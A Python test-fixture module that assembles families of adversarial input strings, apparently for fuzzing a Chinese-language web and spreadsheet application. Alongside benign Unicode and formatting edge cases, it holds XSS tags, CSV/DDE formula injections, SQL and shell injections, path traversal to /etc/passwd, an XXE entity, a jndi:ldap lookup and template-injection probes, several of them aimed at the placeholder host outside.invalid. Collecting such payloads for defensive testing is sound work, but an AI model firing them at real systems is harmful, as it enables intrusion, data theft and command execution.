"""Texts that try to act: as markup, as a formula, as a statement, on a terminal, or on the line around them.

Each family is a place where something could take a text for more than a text. All of them try to reach
`outside.invalid`, to call `ran`, or to be seen otherwise than they were written.
"""

# ruff: noqa: E501
from __future__ import annotations

from collections.abc import Iterable, Mapping

#: What no page may ask, and what no page may call.
OUTSIDE = "outside.invalid"
CALL = "ran(1)"

_TAGS = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<svg onload={}>", "<svg/onload={}>", "<img src=x onerror={}>",
    "<img src onerror='{}'>", '"><img src=x onerror={}>', "'><svg onload={}>", "<body onload={}>",
    "<details open ontoggle={}>", "<video src=x onerror={}>", "<audio src onloadstart={}>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<marquee onstart={}>", "<b onmouseover={}>甲</b>",
    "<p style=animation-name:x onanimationstart={}>", "<a onclick={} href=#>乙</a>", "<iframe srcdoc='<script>{}</script>'>",
    "<math><mi xlink:href=javascript:{}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={}>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "</title><script>{}</script>", "--><script>{}</script>",
    "</style><script>{}</script>", "]]><script>{}</script>", "<!--<script>{}</script>", "<<script>{}//<</script>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<xss contenteditable onfocus={} tabindex=1>", "<form><button formaction=javascript:{}>", "<base href=javascript:{}//>",
    "<link rel=import href=data:text/html,<script>{}>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<x onpointerenter={}>", "<style onload={}></style>", "＜script＞{}＜/script＞", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;", "<scr\u200bipt>{}</script>", "<p/onclick={}/x", "<a href=&#106;avascript:{}>丙</a>",
)  # fmt: skip
_CALLS = (CALL, "window.ran(1)", "top['ran'](1)")

_REACHING = (
    "<img src={}>", "<link rel=stylesheet href={}>", "<style>@import '{}';</style>", "<iframe src={}></iframe>",
    "<p style='background:url({})'>", "<video poster={}>", "<form action={}><button>提交</button></form>",
    "<a href={} target=_blank>请登录</a>", "<a ping={} href=#>丁</a>", "<table background={}>", "<input type=image src={}>",
    "<svg><image href={}></svg>", "<svg><use href={}#a></svg>", "<meta http-equiv=refresh content='0;url={}'>",
    "<source srcset={}>", "<object data={}></object>", "<embed src={}>", "<base href={}>",
)  # fmt: skip
_ADDRESSES = (f"http://{OUTSIDE}/a", f"//{OUTSIDE}/b", f"https://{OUTSIDE}:8443/c?d=1")

_MARKDOWN = (
    "![甲]({})", "[请点击]({})", "[请点击][1]\n\n[1]: {}", "<{}>", "{}", "![a][b]\n\n[b]: {} 'c'", "[![甲]({})]({})",
    "**[粗]({})**", "- [ ] [任务]({})", "[甲]({} \"乙\")", "见 {} 。",
)  # fmt: skip
_MARKED = (
    "# 标题", "## 二级 标题 ##", "标题\n====", "标题\n----", "**粗** 字", "__粗__ 字", "*斜* 字", "_斜_ 字", "~~删~~ 字", "~单~ 字",
    "`码` 字", "``码`` 字", "```\n码块\n```", "~~~sh\n码块\n~~~", "> 引文", ">> 引文", "- 条目", "* 条目", "+ 条目", "1. 条目", "7) 条目",
    "1986. 那一年", "| 甲 | 乙 |\n|---|---|\n| 1 | 2 |", "甲|乙", "***", "---", "___", "* * *", "    四个空格", "\t制表",
    "行末\\", "行末  \n下一行", "脚注[^1]\n\n[^1]: 脚注", "<br>", "<hr/>", "&nbsp;&copy;&#x41;", "\\*不斜\\*", "H~2~O 与 x^2^", "==亮==",
    "[ ] 未办", "[x] 已办", "甲\n\n乙", "!甲", "![", "[]()", "[](#a)", "****", "_", "*", "`", "```", "\\", "\\\\", "{.类 #名}",
    ":::note\n甲\n:::", "::甲[乙]{丙=丁}",
)  # fmt: skip
_DIRECTIVES = (
    *(f":{colour}[字]" for colour in ("red", "blue", "green", "orange", "violet", "grey", "gray", "rainbow", "primary")),
    *(f":{colour}-background[字]" for colour in ("red", "orange", "primary")), *(f":{colour}-badge[字]" for colour in ("red", "green")),
    ":small[字]", ":red[**粗**]", ":red[", "红:red[字]红", ":material/home:", ":material/lock_open: 甲", "甲:material/warning:乙",
    ":streamlit:", ":smile:", ":+1:", ":cn:", "甲:tada:乙", ":-)", ":D", "<3", "a -> b", "a <- b", "a <-> b", "甲 -- 乙", "甲 --- 乙",
    "a >= b", "a <= b", "a ~= b", "(c) (tm) (r)", "...", "http:red[甲]", "10:30 至 11:45", "A:B:C",
)  # fmt: skip
_LATEX = (
    "$x^2$", "$$\\sum_i x_i$$", "\\(x\\)", "\\[x\\]", "$\\href{javascript:ran(1)}{甲}$", "$\\url{http://outside.invalid}$",
    "$\\includegraphics{http://outside.invalid/a}$", "$\\def\\a{\\a\\a}\\a$", "$\\htmlData{a=b}{甲}$", "$5 和 $6", "$", "$$",
    "\\begin{equation}x\\end{equation}", "\\input{/etc/passwd}", "\\write18{id}", "#set page(width: 1pt)", "#import \"a\": *",
    "#read(\"/etc/passwd\")", "#image(\"/etc/passwd\")", "#link(\"http://outside.invalid\")[甲]", "@甲 <乙>", "/ 甲: 乙",
)  # fmt: skip
_SCHEMES = (
    "javascript:ran(1)", "JaVaScRiPt:ran(1)", "java\tscript:ran(1)", " javascript:ran(1)", "javascript&colon;ran(1)",
    "javascript:alert`1`", "data:text/html,<script>ran(1)</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=ran(1)>", "vbscript:msgbox(1)", "blob:http://outside.invalid/a", "file:///etc/passwd",
    "view-source:http://outside.invalid", "about:blank", "mailto:a@outside.invalid", "tel:+86931", "ms-word:ofe|u|http://outside.invalid",
    "search-ms:query=a", "intent://outside.invalid#Intent;end", "weixin://dl/scan", "www.outside.invalid", "WWW.OUTSIDE.INVALID/a",
    "outside.invalid", "http:outside.invalid", "http:/outside.invalid", "//outside.invalid", "\\\\outside.invalid\\c$",
    "HTTP://outside.invalid", "ftp://outside.invalid/a", "a@outside.invalid", "http://甲.outside.invalid", "http://a:b@outside.invalid",
    "http://outside。invalid", "http://127.0.0.1:1/a", "xmpp:a@outside.invalid",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover=ran(1) x="', "' onfocus=ran(1) autofocus x='", "` onclick=ran(1) x=`", '" style="position:fixed;inset:0" "',
    '"/><svg onload=ran(1)>', "' ); ran(1); ('", '"};ran(1);{"', "x onerror=ran(1)", '" href="javascript:ran(1)', "&quot; onclick=&quot;ran(1)",
    "'\"`<>&", "\"'", "&amp;&lt;&gt;&quot;&#39;", "&", "&&", "&a", "&#0;", "&#xD800;", "<", ">", "</", "<a", "<!", "<?", "<![CDATA[",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "<?xml version='1.0'?>", "&b;",
    "expression(ran(1))", "}body{display:none}", "*/body{display:none}/*", "url(http://outside.invalid)", "-moz-binding:url(//outside.invalid)",
)  # fmt: skip
_FORMULA_BODIES = (
    "1+1", "SUM(A1:A9)", 'HYPERLINK("http://outside.invalid","甲")', 'WEBSERVICE("http://outside.invalid")', "cmd|'/C calc'!A0",
    'IMPORTXML("http://outside.invalid","//a")', 'IMAGE("http://outside.invalid/a")', "DDE(\"cmd\";\"/C calc\";\"a\")", "A1",
    'RTD("a","b","c")', "[http://outside.invalid/a.xls]甲!A1",
)  # fmt: skip
_FORMULA_SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    '"=',
    ";=",
    ",=",
    "=-",
    "\ufeff=",
    "\u200b=",
    "\u00a0=",
)
_FORMULAS_MORE = (
    "=", "+", "-", "@", "==", "=+", "--", "=1", "-1", "+1", "@1", "-1.5e3", "=甲", "@SUM(1)", "%0A=1+1", "|=1", "=\u202e1+1", "{=1+1}", "−1+1", "﹣1+1", "﹢1", "﹦1", "﹫1", "⁺1", "‐1",
)  # fmt: skip
_QUOTED = (
    '"', '""', '"""', "'", "''", "甲,乙", "甲;乙", "甲\t乙", "甲|乙", '甲"乙', '"甲"', '"甲', "甲\n乙", "甲\r\n乙", "甲\r乙", ",", ",,,", '",",', '甲","=1+1","',
    "甲\u2028乙", "甲\u2029乙", "甲\u0085乙", "甲\x0b乙", "甲\x0c乙", "sep=;", "'甲", "‘甲", "’甲", "`甲", "＇甲", "'甲'", "‘甲’", "''甲", "^甲", "\\N", "#甲",
)  # fmt: skip
_STATEMENTS = (
    "'; drop table registrations; --", "' or '1'='1", "\" or \"\"=\"", "1; attach 'a.db'", "' union select 1 --", "'); copy t to 'a' --", "%' --", "_%",
    "$1", "$name", "?", ":name", "@name", "{{name}}", "/* 甲 */", "-- 甲", "0x41", "\\'; select 1 --", "' || pg_sleep(9) --", "select read_text('/etc/passwd')",
    "甲'乙\"丙", "x'41'", "E'\\x41'", "$$甲$$", "';pragma writable_schema=1;--",
)  # fmt: skip
_SHELL = (
    "$(id)", "`id`", "; id", "| id", "&& id", "|| id", "> /tmp/a", "< /etc/passwd", "$HOME", "${HOME}", "~", "~root", "-rf /", "--help", "--", "-",
    "!!", "*", "?", "[a-z]", "{a,b}", "%PATH%", "\\a", "$((1+1))", "<(id)", "&", "甲\nid", "\x00id", "!{id}",
)  # fmt: skip
_PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2f", "..%c0%af..",
    "/dev/null", "/proc/self/environ", "CON", "NUL.csv", "aux.xlsx", ".", "..", "...", ".htaccess", "甲/乙", "甲\\乙", "甲:乙", "甲.", "甲 .csv", "甲.csv\x00.png",
    "甲.xlsx.exe", "甲\u202exslx.exe", "file.csv:Zone.Identifier", "~$甲.xlsx", "\\\\?\\C:\\a", "//server/share", "甲?.csv", "甲*.csv", "甲%00.csv",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{config}}", "{{''.__class__.__mro__}}", "{% raw %}", "{%7*7%}", "{#甲#}", "${7*7}", "${jndi:ldap://outside.invalid/a}", "#{7*7}", "<%= 7*7 %>",
    "@(7*7)", "*{7*7}", "{0}", "{}", "{name}", "{count}", "{place}", "{0.__class__}", "{t.__init__.__globals__}", "%s", "%d", "%n%n%n", "%(name)s", "%%", "%",
    "$name", "$$", "${", "}", "{", "}}", "{{", "{!r}", "{:>9999}", "f'{1}'", "[[甲]]", "{{{甲}}}", "\\u0041", "\\x41", "\\n", "\\0",
)  # fmt: skip
_BREAKS = (
    "</script><script>ran(1)</script>", "</SCRIPT >", "<!--", "-->", "<!--<script>", "]]>", "\\\";ran(1);//", "';ran(1);//", "`;ran(1);`", "${ran(1)}", "\u2028ran(1)", "\u2029ran(1)",
    '"},"a":"b', '{"a":1}', "[1,2]", "null", "true", "NaN", "Infinity", "-Infinity", "undefined", '{"__proto__":{"a":1}}', "__proto__", "constructor", "toString", "hasOwnProperty",
    "prototype", "valueOf", "*/ran(1)/*", "//", "\\u003cscript\\u003e", "</textarea>", "</title>", "</style>", "\\</script>", "!function(){ran(1)}()",
)  # fmt: skip
_TURNING_SIGNS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_NO_WIDTH_SIGNS = "\u00ad\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\u206a\u206f\ufeff\ufff9\ufffb\U000e0041\U000e007f"
#: Signs that no reader sees: what is kept has none of them.
UNSEEN = frozenset(_TURNING_SIGNS + _NO_WIDTH_SIGNS + "\U000e0067\U000e0062")
_BLANKS = (
    "\u3164",
    "\u115f\u1160",
    "\uffa0",
    "\u2800",
    "\u00a0",
    "\u3000",
    "\u2003",
    "\u1680",
    "\u17b4",
    " ",
    "\t",
    "\u200b\u200b",
    "\u202e",
)
_TOWERS = (
    "社" + "\u0300" * 9, "e" + "\u0301\u0327\u0489" * 12, "Z\u0351\u036b\u0343a\u0363\u0354l\u0348\u030bgo", "甲\u20dd", "甲\u20e3", "\u0489甲", "\u0301", "a\u0336b\u0336",
    "ก" + "็" * 20, "o\ufe00", "甲\ufe0f", "\u034f甲", "ᄀ" * 3 + "ᅡ" * 3,
)  # fmt: skip
_ALIKE = (
    "兰州市民政局".replace("市", "巿"), "аdmin", "аdmіn", "ΑΒΓ", "ｓｃｒｉｐｔ", "１２３", "Ｒｅｄ", "城关区".replace("关", "関"), "рауреdl", "Оfficial", "ⅠⅡⅢ", "ﬁ", "①②③", "㈱",
    "Å", "Å", "µ", "μ", "K", "İstanbul", "ıstanbul", "STRASSE", "straße", "ẞ", "ſ", "ǅ", "ñ", "n\u0303", "㍿", "〇", "零", "⽤戶", "𝐛𝐨𝐥𝐝", "𝓈𝒸𝓇𝒾𝓅𝓉", "ℌello", "⒈", "／", "﹤script﹥", "‹script›",
)  # fmt: skip
_LONG = (
    "W" * 58, "W" * 61, "长" * 60, "长" * 61, "W" * 100, "W" * 101, "长" * 200, "长" * 201, "-" * 59, "." * 57, "_" * 56, "=" * 55, "a/" * 29, "甲" + "W" * 58, "W" * 501, "M" * 10_000, "👩‍⚕️" * 19,
    "العربية" * 8, "a " * 30, "http://" + "w" * 50, "﷽" * 20, "𒐫" * 20, "W" * 2001, "(" * 54, "[" * 53, "#" * 52, "<" * 51, "&" * 50, "\\" * 49, "ⵀ" * 48,
)  # fmt: skip
#: Half of a sign: no file and no database takes it, so that it must be refused or marked.
_HALVES = ("\ud800", "\udfff", "甲\ud83d", "\ude00甲", "甲\udc80乙", "\udce4\udcb8")
_CONTROLS = (
    *(f"甲{chr(code)}乙" for code in (0, 1, 2, 4, 5, 6, 7, 8, 14, 15, 16, 17, 20, 24, 26, 27, 28, 31, 127, 128, 132, 141, 144, 152, 155, 156, 159)),
    "甲\ue000乙", "甲\uf8ff", "甲\ufdd0", "甲\uffff", "甲\ufffe", "甲\ufffd", "甲\U0010ffff", "甲\U000f0000", "甲\U0001ffff", "_x000D_", "_x0000_", "_x0008_甲",
)  # fmt: skip
_TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b[31m红\x1b[0m", "\x1b]0;标题\x07", "\x1b]8;;http://outside.invalid\x07甲\x1b]8;;\x07", "\x1b]52;c;aWQ=\x07", "\x1b[6n", "\x1bc", "\x1b(0甲", "\x1b[?1049h", "\x1bP+q\x1b\\",
    "\x9b31m红", "\x9d0;甲\x9c", "甲\r乙", "甲\x08\x08乙", "甲\x07", "甲\x0e乙", "[31m红[0m", "\\e[31m", "^[[31m",
)  # fmt: skip
_LOG = (
    "甲\nERROR analytics: 假", "甲\r\nWARNING 假", "甲\n2020-01-01 00:00:00,000 INFO 假", "甲\u0085乙", "甲%0d%0aSet-Cookie: a=b", "甲\r\nBcc: a@outside.invalid", "甲\nSubject: 假", "甲\n.\n甲",
    "甲\r\n\r\n<html>", "BEGIN:VALARM\nEND:VALARM", "甲\nATTACH:http://outside.invalid", "甲;VALUE=URI:http://outside.invalid", "甲\\,乙\\;丙\\n丁", "=?utf-8?b?PGI+?=", "甲\nDTSTART:19700101", "END:VEVENT\nBEGIN:VEVENT",
    "甲: 乙", "Traceback (most recent call last):", "甲\nContent-Type: text/html", "\n\n\n", "甲 " + "\u2028" + "ERROR 假",
)  # fmt: skip
_PICTURES = (
    "😀", "👩‍⚕️", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇨🇳", "🇨🇳🇨", "🏴\U000e0067\U000e0062\U000e007f", "👍🏽", "❤️", "☎︎", "1️⃣", "‼️", "㊙️", "🀄", "⚠️ 注意", "✅ 已办", "🈚", "©️", "👩🏽‍⚕️服务", "🫠",
)  # fmt: skip
#: As real readers are called and write.
_NAMES = (
    "扎西·才让", "བཀྲ་ཤིས་ཚེ་རིང་།", "བསྒྲུབས་པ", "ᠮᠣᠩᠭᠣᠯ ᠬᠡᠯᠡ", "ئۇيغۇر تىلى", "ئالىم جان", "古丽·阿依木", "Қазақ тілі", "ꆈꌠꉙ", "ᥖᥭᥰ", "Sawcuengh", "马·伊布拉欣", "عائشة", "שלום", "हिन्दी", "ไทย", "한국어", "にほんご",
    "Nguyễn Thị Ánh", "O'Brien", "D’Arcy", "Müller-Lüdenscheidt", "Ștefănescu", "Łukasz", "Þórður", "李 明", "欧阳·娜娜", "𰻝𰻝面馆", "㐂", "䶮", "𠮷野", "〇〇社区", "1号院社区", "A区", "第一（甲）社区", "“双引”社区", "《规划》〔2016〕1号",
)  # fmt: skip
_VALUES = (
    "NULL", "null", "None", "nil", "undefined", "NaN", "nan", "inf", "-inf", "true", "FALSE", "TRUE", "是", "否", "0", "00", "-0", "1e3", "1E400", "0x10", "1,000", "1.0", "1.", ".5", "１２", "1/2", "½", "12:00", "0123", "007",
    "2016-08-22", "2016/8/22", "8-9-16", "20160822", "1900-02-29", "Jan-1", "MARCH1", "SEPT2", "2E5", "—", "–", "-", "N/A", "n/a", "#N/A", "#REF!", "#VALUE!", "#DIV/0!", "无", "/", "//", "暂无数据", "合计", "注：", "99999999999999999999",
    "3.14159265358979323846", "1_000", "0b1", "٣", "Infinity", "NUL", "<NA>", "NaT", "(空)", "''", '""', "nullnull",
)  # fmt: skip


def _filled(templates: Iterable[str], values: Iterable[str]) -> Iterable[str]:
    kept = tuple(values)
    return (template.replace("{}", value) for template in templates for value in kept)


def _around(signs: Iterable[str]) -> Iterable[str]:
    return (text for sign in signs for text in (f"甲{sign}乙丙", f"{sign}甲乙"))


#: Family → texts, none of which stands in another too.
FAMILIES: Mapping[str, tuple[str, ...]] = {}


def _families() -> Mapping[str, tuple[str, ...]]:
    found = {
        "html": _filled(_TAGS, _CALLS),
        "html_reaching": _filled(_REACHING, _ADDRESSES),
        "markdown_reaching": _filled(_MARKDOWN, _ADDRESSES[:2]),
        "markdown": _MARKED,
        "directives": _DIRECTIVES,
        "latex": _LATEX,
        "schemes": _SCHEMES,
        "attributes": _ATTRIBUTES,
        "formulas": [sign + body for sign in _FORMULA_SIGNS for body in _FORMULA_BODIES[:: 1 if sign in "=+-@" else 3]],
        "formulas_more": _FORMULAS_MORE,
        "quoting": _QUOTED,
        "statements": _STATEMENTS,
        "shell": _SHELL,
        "paths": _PATHS,
        "templates": _TEMPLATES,
        "breaks": _BREAKS,
        "turning": _around(_TURNING_SIGNS),
        "no_width": _around(_NO_WIDTH_SIGNS),
        "blanks": _BLANKS,
        "towers": _TOWERS,
        "alike": _ALIKE,
        "long": _LONG,
        "halves": _HALVES,
        "controls": _CONTROLS,
        "terminal": _TERMINAL,
        "log": _LOG,
        "pictures": _PICTURES,
        "names": _NAMES,
        "values": _VALUES,
    }  # fmt: skip
    said: set[str] = set()
    families = {}
    for name, texts in found.items():
        own = tuple(text for text in dict.fromkeys(texts) if text not in said)
        said.update(own)
        families[name] = own
    return families


FAMILIES = _families()
#: All of them, in the order of their families.
STRINGS = tuple(text for texts in FAMILIES.values() for text in texts)
#: A few of each family, for what takes long for each.
SOME = tuple(text for texts in FAMILIES.values() for text in texts[:: max(1, len(texts) // 4)])
#: Those that a file, a database and an address can hold: no half of a sign.
WHOLE = tuple(text for text in STRINGS if text not in FAMILIES["halves"])
